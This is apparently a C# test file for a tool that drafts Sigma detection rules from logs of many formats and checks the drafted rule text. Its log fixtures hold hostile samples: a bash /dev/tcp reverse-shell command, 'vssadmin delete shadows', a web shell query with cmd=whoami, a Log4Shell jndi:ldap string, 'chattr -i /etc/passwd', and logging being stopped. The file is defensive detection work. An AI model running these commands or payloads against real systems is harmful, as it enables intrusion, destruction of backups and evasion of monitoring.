using System.Text;
using Modus.Logs;
using Modus.Sigma;
using Modus.Sigma.Drafting;
using Modus.Sigma.Fixtures;
using Xunit;

namespace Modus.Tests.Sigma.Drafting;

/// <summary>Drafts from logs of many forms: in the words that rules of the log source know, with fixtures that can be read alone.</summary>
public sealed class DraftFormTests
{
    /// <summary>A log, then what the draft holds.</summary>
    public static TheoryData<string, string[]> Logs => new()
    {
        // The taxonomy's names, so that the rule holds for other sensors of the category too.
        { """{"Channel":"Security","EventID":4688,"NewProcessName":"C:\\Windows\\System32\\vssadmin.exe","ParentProcessName":"C:\\Windows\\System32\\cmd.exe","CommandLine":"vssadmin delete shadows"}""", ["category: process_creation", @"Image|endswith: '\vssadmin.exe'", @"ParentImage|endswith: '\cmd.exe'"] },
        { """{"hostname":"l1","output":"x","priority":"Warning","rule":"r","time":"2025-03-04T10:11:12Z","output_fields":{"proc.cmdline":"bash -c cat /dev/tcp/10.1.2.3/443","proc.exepath":"/bin/bash"}}""", ["category: process_creation", "Image|endswith: '/bash'", "'/dev/tcp/'"] },
        // Rows of a table are read with its header, whatever stands between.
        { "Timestamp,DeviceName,ActionType,RegistryKey,RegistryValueName,RegistryValueType,RegistryValueData,InitiatingProcessFileName\n2026-05-04T10:11:12Z,w1,RegistryValueSet,HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\Lsa,RunAsPPL,Dword,0,reg.exe\n", ["category: registry_set", @"TargetObject|contains: '\System\CurrentControlSet\Control\Lsa\RunAsPPL'"] },
        { "\"eventtime\",\"eventsource\",\"eventname\",\"errorcode\"\n\"2026-05-04T10:11:12Z\",\"cloudtrail.amazonaws.com\",\"StopLogging\",\n", ["service: cloudtrail", "eventName: 'StopLogging'"] },
        { "#Software: x\n#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query sc-status\n2025-01-02 03:04:05 10.0.0.1 GET /a/shell.aspx cmd=whoami 200\n", ["category: webserver", "cs-uri-stem|contains: '/shell.aspx'", "cs-uri-query|contains: 'cmd=whoami'"] },
        { "203.0.113.9 - - [04/Mar/2025:10:11:12 +0000] \"GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\" 200 1234 \"-\" \"curl\"\n", ["cs-uri-query|contains: 'x=${jndi:ldap://'"] },
        { "1741083072.123     45 10.1.2.3 TCP_MISS/200 1234 GET http://203.0.113.9/a/b.hta - HIER_DIRECT/203.0.113.9 text/html\n", ["category: proxy", "'/b.hta'"] },
        // Records of several lines.
        { "type=SYSCALL msg=audit(1741083072.123:456): arch=c000003e syscall=59 success=yes exit=0 ppid=10 pid=11 uid=0 comm=\"chattr\" exe=\"/usr/bin/chattr\" key=\"exec\"\ntype=EXECVE msg=audit(1741083072.123:456): argc=3 a0=\"chattr\" a1=\"-i\" a2=\"/etc/passwd\"\ntype=CWD msg=audit(1741083072.123:456): cwd=\"/root\"\n", ["category: process_creation", "Image|endswith: '/chattr'"] },
        { "__CURSOR=a\n__REALTIME_TIMESTAMP=1741083072123456\n_HOSTNAME=l1\nSYSLOG_IDENTIFIER=sshd\nMESSAGE=fatal: bad string from 10.1.2.3\n\n", ["product: linux", "'fatal:'", "'string'"] },
        { "03/04/2025 10:11:12 AM\nLogName=Security\nEventCode=4688\nComputerName=w1\nSourceName=Microsoft Windows security auditing.\nRecordNumber=5\nMessage=A new process has been created.\n\nProcess Information:\n\tNew Process Name:\tC:\\Windows\\System32\\vssadmin.exe\n\tProcess Command Line:\tvssadmin delete shadows\n", ["category: process_creation", @"Image|endswith: '\vssadmin.exe'", "'shadows'"] },
        // Operations by the names that products give them.
        { "<189>29: *Mar  4 10:11:12.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:m  logged command:no logging on\n", ["product: cisco", "mnemonic: 'CFGLOG_LOGGEDCMD'", "'logging'"] },
        { "date=2025-03-04 time=10:12:12 devname=\"F\" devid=\"F1\" logid=\"1\" type=\"event\" subtype=\"system\" action=\"Add\" cfgpath=\"system.admin\"\n", ["product: fortigate", "cfgpath: 'system.admin'", "action: 'Add'"] },
        { """{"kind":"Event","auditID":"a","verb":"create","requestURI":"/x","objectRef":{"resource":"pods","subresource":"exec"},"requestReceivedTimestamp":"2025-03-04T10:11:12Z"}""", ["product: kubernetes", "verb: 'create'", "objectRef.subresource: 'exec'"] },
        { """{"kind":"admin#reports#activities","items":[{"kind":"admin#reports#activity","id":{"time":"2025-03-04T10:11:12Z","applicationName":"admin","customerId":"C"},"actor":{"email":"m"},"events":[{"name":"ASSIGN_ROLE","parameters":[{"name":"ROLE_NAME"}]}]}]}""", ["product: gcp", "eventName: 'ASSIGN_ROLE'"] },
    };

    [Theory]
    [MemberData(nameof(Logs))]
    public void A_draft_matches_its_own_event_and_not_the_counter_example(string log, string[] parts)
    {
        var reader = new LogReader(new() { Threads = 1, AssumedOffset = TimeSpan.Zero });
        var (record, text) = reader.Read(new MemoryStream(Encoding.UTF8.GetBytes(log)), "log").Select(one => (one.Keep(), one.RawText())).First();
        var draft = RuleDrafter.Draft(record, text, new() { Date = new(2026, 1, 1) }, out var problem);

        Assert.True(draft is not null, problem?.ToString());
        Assert.All(parts, part => Assert.Contains(part, draft!.Yaml, StringComparison.Ordinal));
        var set = RuleSet.Parse([("d.yml", draft!.Yaml)]);
        Assert.All(FixtureRunner.Run(set, FixtureReader.Read(draft.Fixtures, "f.json", [])!), result => Assert.True(result.Passed, result.Why));
    }
}
